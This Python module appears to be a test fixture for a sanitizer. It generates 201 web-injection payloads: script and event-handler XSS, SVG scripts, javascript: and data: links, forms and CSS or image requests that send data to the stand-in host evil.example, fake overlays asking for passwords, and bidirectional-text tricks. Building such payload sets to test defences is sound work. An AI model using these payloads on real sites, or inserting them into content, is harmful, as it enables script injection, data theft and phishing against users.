"""Texts that try to run a script, fetch from elsewhere, send a form, or look like something that they are not.

Each one that works calls ``ran()``, asks ``EVIL`` for something, or sends a form there.
"""

from dataclasses import dataclass
from itertools import product

EVIL = "https://evil.example"
_CALL = "ran()"


@dataclass(frozen=True, slots=True)
class Payload:
    """One text and what kind of attack it is."""

    kind: str
    text: str


def payloads() -> tuple[Payload, ...]:
    """Return 201 texts, of eight kinds."""
    kinds = {
        "script": _scripts(),
        "svg": _svgs(),
        "form": _forms(),
        "css": _styles(),
        "image": _images(),
        "link": _links(),
        "overlay": _overlays(),
        "bidi": _bidi(),
    }
    return tuple(Payload(kind, text) for kind, texts in kinds.items() for text in texts)


def _scripts() -> list[str]:
    handlers = ("onerror", "onload", "onfocus", "onmouseenter", "ontoggle", "onanimationstart")
    tags = ("img src=x", "body", "input autofocus", "details open")
    made = [f"<{tag} {handler}={_CALL}>" for tag, handler in product(tags, handlers)]
    return [
        *made,
        f"<script>{_CALL}</script>",
        f"<ScRiPt>{_CALL}</sCrIpT>",
        f"<script src={EVIL}/x.js></script>",
        f"</script><script>{_CALL}</script>",
        f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
        f"<iframe src=javascript:parent.{_CALL}></iframe>",
        f"<object data=javascript:{_CALL}></object>",
        f"<embed src=javascript:{_CALL}>",
        f"<video><source onerror={_CALL}></video>",
        f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></noscript>",
        f"{{{{constructor.constructor('{_CALL}')()}}}}",
        f"${{{_CALL}}}",
        f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>",
        f"<a href=x onclick={_CALL}>Open at these words</a>",
        f"';{_CALL};//",
        f'";{_CALL};//',
        f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
        f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    ]


def _svgs() -> list[str]:
    inside = (
        f"<script>{_CALL}</script>",
        f"<animate onbegin={_CALL} attributeName=x dur=1s>",
        f"<set onbegin={_CALL}>",
        f"<a href=javascript:{_CALL}><text y=20>x</text></a>",
        f"<image href={EVIL}/i.png />",
        f"<use href={EVIL}/u.svg#x />",
        f"<foreignObject><img src=x onerror={_CALL}></foreignObject>",
        f"<style>@import '{EVIL}/s.css'</style>",
        f"<feImage href={EVIL}/f.png />",
        f"<desc><![CDATA[</desc><script>{_CALL}</script>]]></desc>",
    )
    return [f"<svg>{part}</svg>" for part in inside] + [f"<svg onload={_CALL}>{part}" for part in inside]


def _forms() -> list[str]:
    fields = ("", "<input name=q value=secret>", "<textarea name=q>x</textarea>", "<select name=q><option>x</select>")
    ways = (
        "<button>Ask</button>",
        "<input type=submit>",
        "<input type=image src=x>",
        "<button formaction={0}>Go</button>",
    )
    made = [f"<form action={EVIL}/f>{field}{way.format(EVIL)}</form>" for field, way in product(fields, ways)]
    return [
        *made,
        f"<button form=f formaction={EVIL}>x</button>",
        f"<input form=f name=x value=y formaction={EVIL}>",
        f"<isindex action={EVIL}>",
        f"<form id=told action={EVIL}><input name=textContent></form>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<base href={EVIL}/>",
    ]


def _styles() -> list[str]:
    rules = (
        f"@import url({EVIL}/a.css);",
        f"body{{background:url({EVIL}/b.png)}}",
        f"@font-face{{font-family:x;src:url({EVIL}/f)}}",
        f"#box[value^=a]{{background:url({EVIL}/a)}}",
        "*{display:none!important}",
        "main{position:fixed;inset:0;opacity:0}",
        ".leave{display:none}",
        ".help{font-size:0}",
    )
    return (
        [f"<style>{rule}</style>" for rule in rules]
        + [f"<link rel=stylesheet href='data:text/css,{rule}'>" for rule in rules]
        + [f"<div style=\"background:url('{EVIL}/d{n}.png')\">x</div>" for n in range(8)]
    )


def _images() -> list[str]:
    attributes = ("", "?q=secret", "/a b", "#x")
    return (
        [f"![a picture]({EVIL}/i.png{more})" for more in attributes]
        + [f"<img src={EVIL}/i.png{more.replace(' ', '%20')}>" for more in attributes]
        + [f"[![a]({EVIL}/i.png{more})]({EVIL})" for more in attributes]
        + [f"![a][r]\n\n[r]: {EVIL}/r.png{more}" for more in attributes]
        + [
            f"<picture><source srcset={EVIL}/s.png><img></picture>",
            f"<video poster={EVIL}/p.png></video>",
            f"<audio src={EVIL}/a.mp3 autoplay>",
        ]
        + [f"<link rel={rel} href={EVIL}/l>" for rel in ("icon", "preload", "prefetch", "dns-prefetch", "preconnect")]
    )


def _links() -> list[str]:
    schemes = (
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f" javascript:{_CALL}",
        f"java\nscript:{_CALL}",
        f"data:text/html,<script>{_CALL}</script>",
        f"vbscript:{_CALL}",
        "file:///etc/passwd",
        f"//evil.example/{_CALL}",
        f"{EVIL}/login",
        "https://fuente@evil.example/",
        "blob:https://evil.example/x",
        "intent://x#Intent;end",
    )
    return [f"[Open at these words]({address})" for address in schemes] + [
        f'<a href="{address}">Open</a>' for address in schemes
    ]


def _overlays() -> list[str]:
    styles = (
        "position:fixed;inset:0;z-index:99999",
        "position:absolute;top:-99px",
        "margin:-9999px",
        "transform:scale(99)",
    )
    bodies = (
        f"<a href={EVIL}>Leave this page</a>",
        "<h1>Call +1 555 0100</h1>",
        "<button>Ask</button>",
        "<dialog open>Sign in</dialog>",
        "<label>Password <input type=password></label>",
    )
    return [f'<div style="{style}">{body}</div>' for style, body in product(styles, bodies)] + [
        f"<div popover id=p>{body}</div>" for body in bodies
    ]


def _bidi() -> list[str]:
    marks = ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c", "\u2028", "\u0000", "\ufeff", "\u200b")
    return [f"call {mark}0010 555 1+{mark} now" for mark in marks] + [f"<b{mark}>{mark}txt.exe" for mark in marks]
